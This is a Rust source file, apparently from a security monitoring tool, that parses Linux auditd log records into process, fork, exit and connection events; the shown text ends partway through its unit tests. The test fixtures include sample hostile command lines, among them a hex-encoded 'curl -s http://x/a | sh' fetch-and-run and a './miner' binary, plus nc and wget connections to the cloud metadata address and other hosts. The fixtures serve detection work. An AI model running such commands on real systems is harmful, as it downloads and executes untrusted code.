//! The Linux audit daemon's raw log (`/var/log/audit/audit.log`), in the raw and the
//! ENRICHED formats, with or without `node=` names.
//!
//! One kernel event is written as several records (SYSCALL, EXECVE, CWD, PATH,
//! SOCKADDR, PROCTITLE, EOE) that share `audit(<time>:<serial>)`. Records of different
//! events may interleave and EOE is not always written, so records are gathered per
//! input until the event is complete: at its EOE, once the input has moved on to many
//! other events, when too many events are open at once, or at the end of the input.
//!
//! auditd knows nothing of containers. pullwatch places its processes through pid
//! ancestry (forks and execs here, init pids from the runtime's events), so forks and
//! exits are emitted too, and every process or connection is `Placement::Unresolved`.

use crate::util::truncate;
use crate::{DecodeError, RecordCtx};
use pullwatch_model::{
    Connection, Event, EventKind, Format, Placement, ProcessExec, ProcessExit, ProcessFork,
    SourceRef, Ts,
};
use std::collections::{BTreeMap, HashMap};
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};
use std::sync::Arc;

/// An event is complete, EOE or not, once records of this many other events have
/// followed its last record. The kernel interleaves only a handful of events, so this
/// is generous and still bounds the delay.
const WINDOW: u64 = 64;
/// Events open at once; beyond this the stalest is emitted as it stands.
const MAX_PENDING: usize = 1024;
/// Argument bytes kept per event (the kernel allows 128 KiB per argument, and far more
/// in total); the rest of a longer command line is dropped.
const MAX_ARGV_BYTES: usize = 128 << 10;
/// Highest argument index kept, so that a garbled `a4000000000=` cannot grow memory.
const MAX_ARGS: u32 = 4096;
/// Bytes kept of a path-like field (exe, comm, cwd, proctitle); PATH_MAX is 4096.
const MAX_FIELD_BYTES: usize = 4096;

const ARCH_X86_64: u32 = 0xc000_003e;
const ARCH_AARCH64: u32 = 0xc000_00b7;
/// `clone(2)` flag that makes a thread, not a process.
const CLONE_THREAD: u64 = 0x0001_0000;
const EINPROGRESS: i64 = -115;
const UID_UNSET: u32 = u32::MAX;

/// `(time in ns, serial)`: the serial alone restarts at every boot.
type Key = (i64, u64);

/// The events of one input that are still being gathered.
#[derive(Default, Debug)]
pub struct State {
    pending: HashMap<Key, Pending>,
    last_key: Option<Key>,
    /// Counts changes of event between consecutive records: the input's clock for
    /// deciding that an event without EOE is complete.
    tick: u64,
    /// No pending event can be stale before `tick` reaches this.
    next_check: u64,
}

#[derive(Debug)]
struct Pending {
    time: Ts,
    first_line: u64,
    syscall_line: Option<u64>,
    execve_line: Option<u64>,
    touched: u64,
    node: Option<String>,
    syscall: Option<Syscall>,
    argc: Option<u32>,
    args: BTreeMap<u32, Arg>,
    arg_bytes: usize,
    proctitle: Option<Vec<u8>>,
    cwd: Option<String>,
    sockaddr: Option<(IpAddr, u16)>,
}

/// One argument: written whole (`a1="x"`) or in pieces (`a1_len=9000 a1[0]=… a1[1]=…`),
/// the pieces possibly spread over several EXECVE records.
#[derive(Debug, Default)]
struct Arg {
    whole: Option<Vec<u8>>,
    pieces: BTreeMap<u32, Vec<u8>>,
}

#[derive(Debug, Default)]
struct Syscall {
    arch: Option<u32>,
    nr: Option<u32>,
    success: Option<bool>,
    exit: Option<i64>,
    a0: Option<u64>,
    pid: Option<u32>,
    ppid: Option<u32>,
    uid: Option<u32>,
    exe: Option<String>,
    comm: Option<String>,
}

impl Syscall {
    fn parse(body: &str) -> Syscall {
        let mut s = Syscall::default();
        for (k, v) in fields(body) {
            match k {
                "arch" => s.arch = u32::from_str_radix(v, 16).ok(),
                "syscall" => s.nr = v.parse().ok(),
                "success" => {
                    s.success = match v {
                        "yes" => Some(true),
                        "no" => Some(false),
                        _ => None,
                    }
                }
                "exit" => s.exit = v.parse().ok(),
                "a0" => s.a0 = u64::from_str_radix(v, 16).ok(),
                "pid" => s.pid = v.parse().ok(),
                "ppid" => s.ppid = v.parse().ok(),
                "uid" => s.uid = v.parse().ok(),
                "exe" => s.exe = untrusted(v).map(capped),
                "comm" => s.comm = untrusted(v).map(capped),
                _ => {}
            }
        }
        s
    }

    /// `success=` when written, else the sign of `exit=`, else assumed.
    fn succeeded(&self) -> bool {
        self.success.unwrap_or(self.exit.is_none_or(|e| e >= 0))
    }
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Call {
    Exec,
    Connect,
    /// `clone` (whose first argument is the flags) or another process-creating call.
    Fork {
        clone_flags_in_a0: bool,
    },
    Exit,
    Other,
    Unknown,
}

fn classify(arch: u32, nr: u32) -> Call {
    match (arch, nr) {
        (ARCH_X86_64, 59 | 322) | (ARCH_AARCH64, 221 | 281) => Call::Exec,
        (ARCH_X86_64, 42) | (ARCH_AARCH64, 203) => Call::Connect,
        (ARCH_X86_64, 56) | (ARCH_AARCH64, 220) => Call::Fork {
            clone_flags_in_a0: true,
        },
        (ARCH_X86_64, 57 | 58 | 435) | (ARCH_AARCH64, 435) => Call::Fork {
            clone_flags_in_a0: false,
        },
        (ARCH_X86_64, 231) | (ARCH_AARCH64, 94) => Call::Exit,
        (ARCH_X86_64 | ARCH_AARCH64, _) => Call::Other,
        _ => Call::Unknown,
    }
}

/// The part of a record line before its fields.
struct Header<'a> {
    node: Option<&'a str>,
    typ: &'a str,
    time: Ts,
    serial: u64,
    body: &'a str,
}

fn parse_header(line: &str) -> Result<Header<'_>, DecodeError> {
    // ENRICHED logs append translated fields after a GS byte; the raw fields say it all.
    let line = line.split('\x1d').next().unwrap_or(line).trim();
    let (node, rest) = match line.strip_prefix("node=") {
        Some(r) => {
            let (n, r) = r.split_once(' ').ok_or(DecodeError::Missing("type"))?;
            (Some(n).filter(|n| !n.is_empty()), r.trim_start())
        }
        None => (None, line),
    };
    let rest = rest
        .strip_prefix("type=")
        .ok_or(DecodeError::Missing("type"))?;
    let (typ, rest) = rest.split_once(' ').ok_or(DecodeError::Missing("msg"))?;
    let rest = rest
        .trim_start()
        .strip_prefix("msg=audit(")
        .ok_or_else(|| {
            DecodeError::Invalid(format!(
                "{} record without msg=audit(time:serial)",
                truncate(typ, 40)
            ))
        })?;
    let (stamp, body) = rest.split_once(')').ok_or_else(|| {
        DecodeError::Invalid(format!("unterminated msg=audit({}", truncate(rest, 40)))
    })?;
    let (secs, serial) = stamp.split_once(':').ok_or_else(|| {
        DecodeError::Invalid(format!("no serial in msg=audit({})", truncate(stamp, 40)))
    })?;
    let time = Ts::parse_decimal_secs(secs).ok_or_else(|| DecodeError::Time(truncate(secs, 40)))?;
    let serial = serial.parse().map_err(|_| {
        DecodeError::Invalid(format!(
            "bad serial {:?} in msg=audit(…)",
            truncate(serial, 40)
        ))
    })?;
    // DAEMON_* records omit the colon after the header.
    let body = body.strip_prefix(':').unwrap_or(body);
    Ok(Header {
        node,
        typ,
        time,
        serial,
        body,
    })
}

pub fn decode_text(
    line: &str,
    ctx: &RecordCtx,
    state: &mut State,
    out: &mut Vec<Event>,
) -> Result<(), DecodeError> {
    let h = parse_header(line)?;
    state.add(&h, ctx, out);
    Ok(())
}

impl State {
    fn add(&mut self, h: &Header, ctx: &RecordCtx, out: &mut Vec<Event>) {
        let key = (h.time.0, h.serial);
        if self.last_key != Some(key) {
            self.last_key = Some(key);
            self.tick += 1;
        }
        let tick = self.tick;
        match h.typ {
            "EOE" => {
                if let Some(p) = self.pending.remove(&key) {
                    emit(p, &ctx.path, out);
                }
            }
            "SYSCALL" | "EXECVE" | "PROCTITLE" | "CWD" | "SOCKADDR" => {
                let p = self.entry(key, h.time, ctx, out);
                p.touched = tick;
                if p.node.is_none() {
                    p.node = h.node.map(str::to_string);
                }
                p.add_record(h.typ, h.body, ctx.line);
            }
            // PATH and the like belong to an event but add nothing pullwatch uses;
            // records of events pullwatch never tracks are dropped outright.
            _ => {
                if let Some(p) = self.pending.get_mut(&key) {
                    p.touched = tick;
                }
            }
        }
        self.flush_stale(&ctx.path, out);
    }

    fn entry(&mut self, key: Key, time: Ts, ctx: &RecordCtx, out: &mut Vec<Event>) -> &mut Pending {
        if !self.pending.contains_key(&key) {
            if self.pending.len() >= MAX_PENDING {
                let oldest = self
                    .pending
                    .iter()
                    .min_by_key(|(_, p)| (p.touched, p.first_line))
                    .map(|(k, _)| *k);
                if let Some(p) = oldest.and_then(|k| self.pending.remove(&k)) {
                    emit(p, &ctx.path, out);
                }
            }
            self.next_check = self.next_check.min(self.tick + WINDOW + 1);
        }
        self.pending
            .entry(key)
            .or_insert_with(|| Pending::new(time, ctx.line))
    }

    fn flush_stale(&mut self, path: &Arc<str>, out: &mut Vec<Event>) {
        if self.tick < self.next_check {
            return;
        }
        let tick = self.tick;
        let mut stale: Vec<Key> = self
            .pending
            .iter()
            .filter(|(_, p)| p.touched + WINDOW < tick)
            .map(|(k, _)| *k)
            .collect();
        stale.sort_by_key(|k| self.pending.get(k).map(|p| p.first_line));
        for k in stale {
            if let Some(p) = self.pending.remove(&k) {
                emit(p, path, out);
            }
        }
        self.next_check = self
            .pending
            .values()
            .map(|p| p.touched + WINDOW + 1)
            .min()
            .unwrap_or(u64::MAX);
    }

    /// Emits every event still open, in the order their first records were read.
    pub fn flush(&mut self, path: &Arc<str>, out: &mut Vec<Event>) {
        let mut all: Vec<Pending> = self.pending.drain().map(|(_, p)| p).collect();
        all.sort_by_key(|p| p.first_line);
        for p in all {
            emit(p, path, out);
        }
        self.last_key = None;
        self.next_check = u64::MAX;
    }
}

impl Pending {
    fn new(time: Ts, line: u64) -> Pending {
        Pending {
            time,
            first_line: line,
            syscall_line: None,
            execve_line: None,
            touched: 0,
            node: None,
            syscall: None,
            argc: None,
            args: BTreeMap::new(),
            arg_bytes: 0,
            proctitle: None,
            cwd: None,
            sockaddr: None,
        }
    }

    fn add_record(&mut self, typ: &str, body: &str, line: u64) {
        match typ {
            "SYSCALL" => {
                self.syscall = Some(Syscall::parse(body));
                self.syscall_line = Some(line);
            }
            "EXECVE" => {
                self.execve_line.get_or_insert(line);
                self.add_execve(body);
            }
            "PROCTITLE" => {
                if let Some(mut v) = field(body, "proctitle").and_then(untrusted) {
                    v.truncate(MAX_FIELD_BYTES);
                    self.proctitle = Some(v);
                }
            }
            "CWD" => self.cwd = field(body, "cwd").and_then(untrusted).map(capped),
            "SOCKADDR" => {
                self.sockaddr = field(body, "saddr").and_then(|v| parse_sockaddr(&hex_prefix(v)))
            }
            _ => {}
        }
    }

    fn add_execve(&mut self, body: &str) {
        for (k, v) in fields(body) {
            if k == "argc" {
                self.argc = v.parse().ok();
                continue;
            }
            let Some((n, piece)) = arg_key(k) else {
                continue;
            };
            let Some(bytes) = untrusted(v) else { continue };
            if n > MAX_ARGS || self.arg_bytes + bytes.len() > MAX_ARGV_BYTES {
                continue;
            }
            self.arg_bytes += bytes.len();
            let arg = self.args.entry(n).or_default();
            match piece {
                None => arg.whole = Some(bytes),
                Some(i) => {
                    arg.pieces.insert(i, bytes);
                }
            }
        }
    }

    fn argv(&self) -> Vec<String> {
        self.args
            .iter()
            .filter(|(n, _)| self.argc.is_none_or(|c| **n < c))
            .map(|(_, a)| match &a.whole {
                Some(w) => lossy(w.clone()),
                None => lossy(a.pieces.values().flatten().copied().collect()),
            })
            .collect()
    }
}

/// `aN` → `(N, None)`, `aN[i]` → `(N, Some(i))`; `aN_len` and others → `None`.
fn arg_key(k: &str) -> Option<(u32, Option<u32>)> {
    let rest = k.strip_prefix('a')?;
    let digits = rest.bytes().take_while(u8::is_ascii_digit).count();
    let n = rest.get(..digits)?.parse().ok()?;
    match rest.get(digits..)? {
        "" => Some((n, None)),
        tail => {
            let i = tail.strip_prefix('[')?.strip_suffix(']')?.parse().ok()?;
            Some((n, Some(i)))
        }
    }
}

fn emit(p: Pending, path: &Arc<str>, out: &mut Vec<Event>) {
    let sc = p.syscall.as_ref();
    let call = match sc.and_then(|s| s.arch.zip(s.nr)) {
        Some((arch, nr)) => classify(arch, nr),
        None => Call::Unknown,
    };
    // Only execve writes EXECVE records, whatever the architecture.
    let call = if call == Call::Unknown && !p.args.is_empty() {
        Call::Exec
    } else {
        call
    };
    let ok = sc.is_none_or(Syscall::succeeded);
    let host = p.node.clone();
    let pid = sc.and_then(|s| s.pid);
    let kind = match call {
        Call::Exec if ok => {
            let mut argv = p.argv();
            if argv.is_empty() {
                // PROCTITLE is the kernel's copy of argv, NUL-separated and cut at 128
                // bytes: second best, used only when EXECVE is missing.
                if let Some(t) = &p.proctitle {
                    argv = t
                        .split(|&b| b == 0)
                        .filter(|a| !a.is_empty())
                        .map(|a| lossy(a.to_vec()))
                        .collect();
                }
            }
            let exe = sc
                .and_then(|s| s.exe.clone())
                .or_else(|| argv.first().map(|a0| resolve(a0, p.cwd.as_deref())))
                .or_else(|| sc.and_then(|s| s.comm.clone()))
                .unwrap_or_default();
            EventKind::Process(ProcessExec {
                lineage: Default::default(),
                placement: Placement::Unresolved { host },
                pid,
                ppid: sc.and_then(|s| s.ppid),
                exe: pullwatch_model::name(&exe),
                cmdline: argv.join(" "),
                parent_exe: None,
                user: sc
                    .and_then(|s| s.uid)
                    .filter(|&u| u != UID_UNSET)
                    .map(|u| u.to_string()),
            })
        }
        // Non-blocking connects report EINPROGRESS and usually go on to connect.
        Call::Connect if ok || sc.and_then(|s| s.exit) == Some(EINPROGRESS) => {
            let Some((dst, port)) = p.sockaddr else {
                return;
            };
            EventKind::Connection(Connection {
                placement: Placement::Unresolved { host },
                pid,
                exe: sc
                    .and_then(|s| s.exe.as_deref().or(s.comm.as_deref()))
                    .map(pullwatch_model::name),
                src: None,
                src_port: None,
                dst,
                dst_port: Some(port),
                proto: None,
                instance_id: None,
            })
        }
        Call::Fork { clone_flags_in_a0 } if ok => {
            let Some(s) = sc else { return };
            if clone_flags_in_a0 && s.a0.is_some_and(|f| f & CLONE_THREAD != 0) {
                return;
            }
            let (Some(child), Some(ppid)) = (
                s.exit
                    .and_then(|e| u32::try_from(e).ok())
                    .filter(|&c| c > 0),
                s.pid,
            ) else {
                return;
            };
            EventKind::ProcessFork(ProcessFork {
                host,
                pid: child,
                ppid,
            })
        }
        Call::Exit => {
            let Some(pid) = pid else { return };
            EventKind::ProcessExit(ProcessExit { host, pid })
        }
        _ => return,
    };
    let source = SourceRef {
        format: Format::Auditd,
        path: path.clone(),
        line: p.syscall_line.or(p.execve_line).unwrap_or(p.first_line),
    };
    out.push(Event::new(p.time, source, kind));
}

/// `./x` run from `/tmp` is `/tmp/x`; bare names are left for the reader (PATH lookup
/// is not recorded).
fn resolve(arg0: &str, cwd: Option<&str>) -> String {
    match cwd {
        Some(dir) if arg0.contains('/') && !arg0.starts_with('/') => {
            let rel = arg0.strip_prefix("./").unwrap_or(arg0);
            format!("{}/{rel}", dir.trim_end_matches('/'))
        }
        _ => arg0.to_string(),
    }
}

/// `key=value` fields of a record body. Kernel values never contain spaces: anything
/// that would is hex-encoded.
fn fields(body: &str) -> impl Iterator<Item = (&str, &str)> {
    body.split_ascii_whitespace()
        .filter_map(|t| t.split_once('='))
}

fn field<'a>(body: &'a str, name: &str) -> Option<&'a str> {
    fields(body).find(|(k, _)| *k == name).map(|(_, v)| v)
}

/// A field the kernel writes `"quoted"` when printable and as bare hex otherwise.
/// `(null)` and `(none)` mean absent. A value cut short keeps what is there.
fn untrusted(v: &str) -> Option<Vec<u8>> {
    if let Some(q) = v.strip_prefix('"') {
        return Some(q.strip_suffix('"').unwrap_or(q).as_bytes().to_vec());
    }
    if v == "(null)" || v == "(none)" {
        return None;
    }
    if !v.is_empty() && v.bytes().all(|b| b.is_ascii_hexdigit()) {
        return Some(hex_prefix(v));
    }
    Some(v.as_bytes().to_vec())
}

/// Decodes the leading hex digits of `s`, pairwise; stops at the first non-pair.
fn hex_prefix(s: &str) -> Vec<u8> {
    s.as_bytes()
        .chunks_exact(2)
        .map_while(|p| match p {
            [h, l] => Some(nibble(*h)? << 4 | nibble(*l)?),
            _ => None,
        })
        .collect()
}

fn nibble(c: u8) -> Option<u8> {
    match c {
        b'0'..=b'9' => Some(c - b'0'),
        b'a'..=b'f' => Some(c - b'a' + 10),
        b'A'..=b'F' => Some(c - b'A' + 10),
        _ => None,
    }
}

/// A field that input controls, bounded before it is kept with an open event.
fn capped(mut b: Vec<u8>) -> String {
    b.truncate(MAX_FIELD_BYTES);
    lossy(b)
}

fn lossy(b: Vec<u8>) -> String {
    String::from_utf8(b).unwrap_or_else(|e| String::from_utf8_lossy(e.as_bytes()).into_owned())
}

/// An IPv4 or IPv6 `struct sockaddr` → address and port; anything else (AF_UNIX,
/// AF_NETLINK, truncated) → `None`. The family is in host byte order (little-endian on
/// x86_64 and aarch64, big-endian on s390x); the port is in network order. IPv4-mapped
/// IPv6 addresses become IPv4, so they compare with what flow logs report.
fn parse_sockaddr(b: &[u8]) -> Option<(IpAddr, u16)> {
    let fam = [*b.first()?, *b.get(1)?];
    let port = u16::from_be_bytes([*b.get(2)?, *b.get(3)?]);
    match fam {
        [2, 0] | [0, 2] => {
            let a: [u8; 4] = b.get(4..8)?.try_into().ok()?;
            Some((IpAddr::V4(Ipv4Addr::from(a)), port))
        }
        [10, 0] | [0, 10] => {
            let a: [u8; 16] = b.get(8..24)?.try_into().ok()?;
            let v6 = Ipv6Addr::from(a);
            Some((v6.to_ipv4_mapped().map_or(IpAddr::V6(v6), IpAddr::V4), port))
        }
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::DecodeStats;

    fn ctx(line: u64) -> RecordCtx {
        RecordCtx {
            path: Arc::from("t"),
            line,
        }
    }

    /// Decodes lines through the decoder alone, then flushes: (events, per-line errors).
    fn run(text: &str) -> (Vec<Event>, Vec<(u64, DecodeError)>) {
        let mut st = State::default();
        let mut out = Vec::new();
        let mut errs = Vec::new();
        for (i, line) in text.lines().enumerate() {
            let n = i as u64 + 1;
            if let Err(e) = decode_text(line, &ctx(n), &mut st, &mut out) {
                errs.push((n, e));
            }
        }
        st.flush(&Arc::from("t"), &mut out);
        (out, errs)
    }

    fn ok(text: &str) -> Vec<Event> {
        let (ev, errs) = run(text);
        assert!(errs.is_empty(), "{errs:?}");
        ev
    }

    fn process(e: &Event) -> &ProcessExec {
        match &e.kind {
            EventKind::Process(p) => p,
            other => panic!("not a process: {other:?}"),
        }
    }

    fn connection(e: &Event) -> &Connection {
        match &e.kind {
            EventKind::Connection(c) => c,
            other => panic!("not a connection: {other:?}"),
        }
    }

    fn stream(path: &str, data: Vec<u8>) -> (Vec<Event>, DecodeStats) {
        crate::test_support::stream_bytes(path, data)
    }

    const EXEC: &str = r#"type=SYSCALL msg=audit(1700000000.123:500): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=2 ppid=10 pid=11 auid=4294967295 uid=0 gid=0 euid=0 tty=(none) ses=4294967295 comm="curl" exe="/usr/bin/curl" key=(null)"#;

    #[test]
    fn execve_event_assembles_and_uses_the_audit_time() {
        let ev = ok(&format!(
            "{EXEC}\n\
             type=EXECVE msg=audit(1700000000.123:500): argc=3 a0=\"curl\" a1=\"-s\" a2=\"http://203.0.113.9/x\"\n\
             type=CWD msg=audit(1700000000.123:500): cwd=\"/\"\n\
             type=PATH msg=audit(1700000000.123:500): item=0 name=\"/usr/bin/curl\" inode=1 nametype=NORMAL\n\
             type=PROCTITLE msg=audit(1700000000.123:500): proctitle=6375726C002D73\n\
             type=EOE msg=audit(1700000000.123:500): \n"
        ));
        assert_eq!(ev.len(), 1);
        let e = &ev[0];
        assert_eq!(e.time, Ts(1_700_000_000_123_000_000));
        assert_eq!(e.source.format, Format::Auditd);
        assert_eq!(e.source.line, 1);
        let p = process(e);
        assert_eq!(p.placement, Placement::Unresolved { host: None });
        assert_eq!((p.pid, p.ppid), (Some(11), Some(10)));
        assert_eq!(&*p.exe, "/usr/bin/curl");
        // EXECVE wins over the (truncatable) PROCTITLE.
        assert_eq!(p.cmdline, "curl -s http://203.0.113.9/x");
        assert_eq!(p.user.as_deref(), Some("0"));
    }

    #[test]
    fn interleaved_events_are_grouped_by_time_and_serial() {
        // Two events interleave; one shares the other's millisecond but not its serial.
        let ev = ok(
            r#"type=SYSCALL msg=audit(1700000000.500:7): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=100 uid=1000 comm="a" exe="/bin/a"
type=SYSCALL msg=audit(1700000000.500:8): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=200 uid=1000 comm="b" exe="/bin/b"
type=EXECVE msg=audit(1700000000.500:8): argc=2 a0="b" a1="second"
type=EXECVE msg=audit(1700000000.500:7): argc=2 a0="a" a1="first"
type=EOE msg=audit(1700000000.500:8):
type=EOE msg=audit(1700000000.500:7):
"#,
        );
        assert_eq!(ev.len(), 2);
        // Emitted as each completes.
        assert_eq!(
            (process(&ev[0]).pid, process(&ev[0]).cmdline.as_str()),
            (Some(200), "b second")
        );
        assert_eq!(ev[0].source.line, 2);
        assert_eq!(
            (process(&ev[1]).pid, process(&ev[1]).cmdline.as_str()),
            (Some(100), "a first")
        );
        assert_eq!(ev[1].source.line, 1);
    }

    #[test]
    fn events_without_eoe_complete_after_the_window_or_at_the_end() {
        let mut st = State::default();
        let mut out = Vec::new();
        let exec = |serial: u64, pid: u32| {
            format!("type=SYSCALL msg=audit(1700000001.000:{serial}): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid={pid} exe=\"/bin/x\"")
        };
        decode_text(&exec(1, 1), &ctx(1), &mut st, &mut out).unwrap();
        decode_text(
            "type=EXECVE msg=audit(1700000001.000:1): argc=1 a0=\"x\"",
            &ctx(2),
            &mut st,
            &mut out,
        )
        .unwrap();
        // Records of events pullwatch ignores move the clock too.
        for s in 2..=WINDOW {
            decode_text(
                &format!(
                    "type=USER_ACCT msg=audit(1700000001.000:{}): pid=5 uid=0",
                    s + 100
                ),
                &ctx(s + 1),
                &mut st,
                &mut out,
            )
            .unwrap();
        }
        assert!(out.is_empty(), "{out:?}");
        decode_text(&exec(2000, 2), &ctx(100), &mut st, &mut out).unwrap();
        decode_text(&exec(2001, 3), &ctx(101), &mut st, &mut out).unwrap();
        assert_eq!(out.len(), 1);
        assert_eq!(process(&out[0]).pid, Some(1));
        assert_eq!(process(&out[0]).cmdline, "x");
        st.flush(&Arc::from("t"), &mut out);
        let pids: Vec<_> = out.iter().map(|e| process(e).pid).collect();
        assert_eq!(pids, vec![Some(1), Some(2), Some(3)]);
        assert!(st.pending.is_empty());
    }

    #[test]
    fn open_events_are_capped() {
        let mut st = State::default();
        let mut out = Vec::new();
        // Every event keeps receiving records, so none goes stale; the cap still holds.
        for s in 0..(MAX_PENDING as u64 + 3) {
            let line = format!(
                "type=SYSCALL msg=audit(1700000002.000:{s}): arch=c000003e syscall=231 pid={}",
                s + 1
            );
            decode_text(&line, &ctx(s + 1), &mut st, &mut out).unwrap();
            for p in st.pending.values_mut() {
                p.touched = st.tick;
            }
        }
        assert_eq!(st.pending.len(), MAX_PENDING);
        assert_eq!(out.len(), 3);
        assert_eq!(
            out[0].kind,
            EventKind::ProcessExit(ProcessExit { host: None, pid: 1 })
        );
    }

    #[test]
    fn hex_and_split_arguments() {
        // Long arguments are split into pieces spread over EXECVE records; an argument
        // with a space is hex, in every piece.
        let ev = ok(
            r#"node=vm-1 type=SYSCALL msg=audit(1700000003.001:42): arch=c000003e syscall=59 success=yes exit=0 ppid=9 pid=10 uid=1000 comm="sh" exe="/usr/bin/dash"
node=vm-1 type=EXECVE msg=audit(1700000003.001:42): argc=4 a0="sh" a1_len=14 a1[0]="--no"
node=vm-1 type=EXECVE msg=audit(1700000003.001:42): a1[1]="profile=1" a2="-c" a3_len=23 a3[0]=6375726C202D7320
node=vm-1 type=EXECVE msg=audit(1700000003.001:42): a3[1]=687474703A2F2F782F61207C207368
node=vm-1 type=EOE msg=audit(1700000003.001:42):
type=EXECVE msg=audit(1700000003.002:43): argc=2 a0="echo" a1=68656C6C6F20776F726C64
type=EOE msg=audit(1700000003.002:43):
"#,
        );
        assert_eq!(ev.len(), 2);
        let p = process(&ev[0]);
        assert_eq!(p.cmdline, "sh --noprofile=1 -c curl -s http://x/a | sh");
        assert_eq!(
            p.placement,
            Placement::Unresolved {
                host: Some("vm-1".into())
            }
        );
        assert_eq!(p.user.as_deref(), Some("1000"));
        // An EXECVE without its SYSCALL still says a program ran (pid unknown).
        let p = process(&ev[1]);
        assert_eq!(p.cmdline, "echo hello world");
        assert_eq!((&*p.exe, p.pid), ("echo", None));
    }

    #[test]
    fn proctitle_only_when_execve_is_missing() {
        let ev = ok(
            r#"type=SYSCALL msg=audit(1700000004.000:1): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=2 uid=4294967295 comm="python3" exe="/usr/bin/python3.11"
type=CWD msg=audit(1700000004.000:1): cwd=2F746D702F6120622063
type=PROCTITLE msg=audit(1700000004.000:1): proctitle=707974686F6E33002D63007072696E742831290000
type=EOE msg=audit(1700000004.000:1):
"#,
        );
        let p = process(&ev[0]);
        assert_eq!(p.cmdline, "python3 -c print(1)");
        assert_eq!(&*p.exe, "/usr/bin/python3.11");
        assert_eq!(p.user, None);
    }

    #[test]
    fn relative_program_resolves_against_cwd_without_syscall() {
        let ev = ok(
            r#"type=EXECVE msg=audit(1700000004.500:3): argc=1 a0="./miner"
type=CWD msg=audit(1700000004.500:3): cwd=2F746D702F6120622063
"#,
        );
        assert_eq!(&*process(&ev[0]).exe, "/tmp/a b c/miner");
    }

    #[test]
    fn aarch64_numbers() {
        let ev = ok(
            r#"type=SYSCALL msg=audit(1700000005.000:1): arch=c00000b7 syscall=221 success=yes exit=0 ppid=1 pid=50 uid=0 exe="/usr/bin/wget"
type=EXECVE msg=audit(1700000005.000:1): argc=2 a0="wget" a1="x"
type=EOE msg=audit(1700000005.000:1):
type=SYSCALL msg=audit(1700000005.000:2): arch=c00000b7 syscall=203 success=yes exit=0 a0=3 ppid=1 pid=50 uid=0 exe="/usr/bin/wget"
type=SOCKADDR msg=audit(1700000005.000:2): saddr=0200005DCB00710A0000000000000000
type=EOE msg=audit(1700000005.000:2):
type=SYSCALL msg=audit(1700000005.000:3): arch=c00000b7 syscall=220 success=yes exit=51 a0=1200011 ppid=1 pid=50 uid=0 exe="/usr/bin/wget"
type=EOE msg=audit(1700000005.000:3):
type=SYSCALL msg=audit(1700000005.000:4): arch=c00000b7 syscall=94 success=yes exit=0 a0=0 ppid=1 pid=50 uid=0 exe="/usr/bin/wget"
type=EOE msg=audit(1700000005.000:4):
type=SYSCALL msg=audit(1700000005.000:5): arch=c00000b7 syscall=281 success=yes exit=0 ppid=50 pid=52 uid=0 exe="/usr/bin/id"
type=SYSCALL msg=audit(1700000005.000:6): arch=c00000b7 syscall=59 success=yes exit=0 ppid=50 pid=53 uid=0 exe="/usr/bin/id"
"#,
        );
        let names: Vec<_> = ev.iter().map(Event::kind_name).collect();
        // aarch64's 59 is not execve (it is pipe2).
        assert_eq!(
            names,
            [
                "process",
                "connection",
                "process-fork",
                "process-exit",
                "process"
            ]
        );
        let c = connection(&ev[1]);
        assert_eq!(c.dst, "203.0.113.10".parse::<IpAddr>().unwrap());
        assert_eq!(c.dst_port, Some(93));
        assert_eq!(c.exe.as_deref(), Some("/usr/bin/wget"));
        assert_eq!(
            ev[2].kind,
            EventKind::ProcessFork(ProcessFork {
                host: None,
                pid: 51,
                ppid: 50
            })
        );
        assert_eq!(
            ev[3].kind,
            EventKind::ProcessExit(ProcessExit {
                host: None,
                pid: 50
            })
        );
        assert_eq!(
            (process(&ev[4]).pid, &*process(&ev[4]).exe),
            (Some(52), "/usr/bin/id")
        );
    }

    #[test]
    fn connect_outcomes() {
        let connect = |serial: u32, outcome: &str, saddr: &str| {
            format!(
                "type=SYSCALL msg=audit(1700000006.000:{serial}): arch=c000003e syscall=42 {outcome} a0=3 ppid=1 pid=70 uid=0 comm=\"nc\" exe=\"/usr/bin/nc\"\n\
                 type=SOCKADDR msg=audit(1700000006.000:{serial}): saddr={saddr}\n\
                 type=EOE msg=audit(1700000006.000:{serial}):\n"
            )
        };
        let v4 = "0200115CC6336407";
        let text = [
            connect(
                1,
                "success=no exit=-115",
                "02000050A9FEA9FE0000000000000000",
            ),
            connect(2, "success=no exit=-111", v4),
            connect(3, "success=yes exit=0", "01002F746D702F736F636B"),
            connect(4, "success=yes exit=0", "100000000000000000000000"),
            // IPv4-mapped IPv6 and a truncated (odd-length) address that is still whole.
            connect(
                5,
                "success=yes exit=0",
                &format!(
                    "0A0001BB{}{}{}",
                    "00000000", "00000000000000000000FFFF08080808", "000000000"
                ),
            ),
            connect(6, "success=yes exit=0", "0A0001BB"),
        ]
        .concat();
        let ev = ok(&text);
        assert_eq!(ev.len(), 2, "{ev:?}");
        let c = connection(&ev[0]);
        assert_eq!(c.dst, "169.254.169.254".parse::<IpAddr>().unwrap());
        assert_eq!(c.dst_port, Some(80));
        assert_eq!((c.pid, c.proto.as_deref(), c.src), (Some(70), None, None));
        let c = connection(&ev[1]);
        assert_eq!(c.dst, "8.8.8.8".parse::<IpAddr>().unwrap());
        assert_eq!(c.dst_port, Some(443));
    }

    #[test]
    fn failed_and_thread_clones_emit_nothing() {
        let ev = ok(
            r#"type=SYSCALL msg=audit(1700000007.000:1): arch=c000003e syscall=56 success=yes exit=900 a0=3d0f00 ppid=1 pid=80
type=SYSCALL msg=audit(1700000007.000:2): arch=c000003e syscall=57 success=no exit=-11 ppid=1 pid=80
type=SYSCALL msg=audit(1700000007.000:3): arch=c000003e syscall=58 success=yes exit=901 ppid=1 pid=80
type=SYSCALL msg=audit(1700000007.000:4): arch=c000003e syscall=435 success=yes exit=902 a0=7ffd0 ppid=1 pid=80
type=SYSCALL msg=audit(1700000007.000:5): arch=c000003e syscall=59 success=no exit=-2 ppid=1 pid=80 exe="/bin/sh"
"#,
        );
        let forks: Vec<_> = ev
            .iter()
            .map(|e| match &e.kind {
                EventKind::ProcessFork(f) => (f.pid, f.ppid),
                other => panic!("{other:?}"),
            })
            .collect();
        assert_eq!(forks, [(901, 80), (902, 80)]);
    }

